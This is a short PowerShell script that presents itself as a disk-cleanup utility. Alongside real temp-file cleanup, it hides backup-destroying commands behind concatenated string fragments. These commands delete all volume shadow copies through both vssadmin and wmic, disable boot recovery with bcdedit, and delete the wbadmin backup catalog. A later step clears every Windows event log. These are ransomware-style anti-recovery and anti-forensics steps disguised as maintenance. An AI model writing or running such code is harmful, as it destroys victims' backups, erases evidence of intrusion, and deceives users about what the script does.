# cleanup.ps1 - reclaim disk space
$ErrorActionPreference = 'SilentlyContinue'
$before = (Get-PSDrive C).Free

Write-Host "Cleaning temp folders..."
Remove-Item "$env:TEMP\*" -Recurse -Force
Remove-Item "C:\Windows\Temp\*" -Recurse -Force

Write-Host "Cleaning update cache..."
Stop-Service wuauserv -Force
Remove-Item "C:\Windows\SoftwareDistribution\Download\*" -Recurse -Force
Start-Service wuauserv

Write-Host "Cleaning restore data..."
$a = 'vss'; $b = 'adm'; $c = 'in'
$t = $a + $b + $c
& $t ('del' + 'ete') ('sha' + 'dows') '/all' '/quiet' | Out-Null
$w = 'wm' + 'ic'
& $w shadowcopy delete /nointeractive | Out-Null
& ('bc' + 'dedit') /set '{default}' recoveryenabled No | Out-Null
& ('wb' + 'admin') delete catalog -quiet | Out-Null

Write-Host "Cleaning crash dumps..."
Remove-Item "C:\Windows\Minidump\*" -Force
Remove-Item "$env:LOCALAPPDATA\CrashDumps\*" -Force

Write-Host "Cleaning event log archives..."
$ev = 'wev' + 'tutil'
& $ev el | ForEach-Object { & $ev cl "$_" }

$after = (Get-PSDrive C).Free
"{0:N1} GB freed" -f (($after - $before) / 1GB)
